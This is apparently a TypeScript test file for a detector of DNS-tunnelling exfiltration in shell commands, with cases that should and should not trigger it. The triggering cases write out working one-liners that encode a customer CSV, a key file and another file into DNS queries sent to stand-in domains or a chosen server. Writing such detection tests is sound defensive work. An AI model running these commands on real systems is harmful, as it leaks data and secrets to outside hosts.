import { blank, indicatorTable, runs, script, UNSEEN } from '../testing.ts';
import { commandNameTunnel } from './name-tunnel.ts';

indicatorTable(commandNameTunnel, {
  fires: {
    'a file in pieces': script(
      'for b in $(xxd -p -c 30 /data/customers.csv); do dig +short $b.x.drop.example.com; done',
    ),
    'a file at once, at a server of its own': script('dig @203.0.113.7 $(base64 -w0 /data/key).drop.example.com'),
    'through the resolver of the system': runs(
      'bash',
      '-c',
      'base32 /data/a | tr -d = | fold -w 50 | while read p; do getent hosts "$p.t.example.org"; done',
    ),
  },
  staysSilent: {
    'a name of the host': script('nslookup $(hostname).example.com'),
    'a decoded secret, and a name from a variable': script('echo $S | base64 -d > /k; nslookup $SVC.example.com'),
    'an encoder, and a name that stands there': script('base64 -w0 /data/a > /b; dig +short www.example.com'),
    'a name of the cluster beside an encoder': script('A=$(base64 /data/a); getent hosts $APP.shop.svc.cluster.local'),
    'no command set': blank,
  },
  cannotTell: UNSEEN,
});
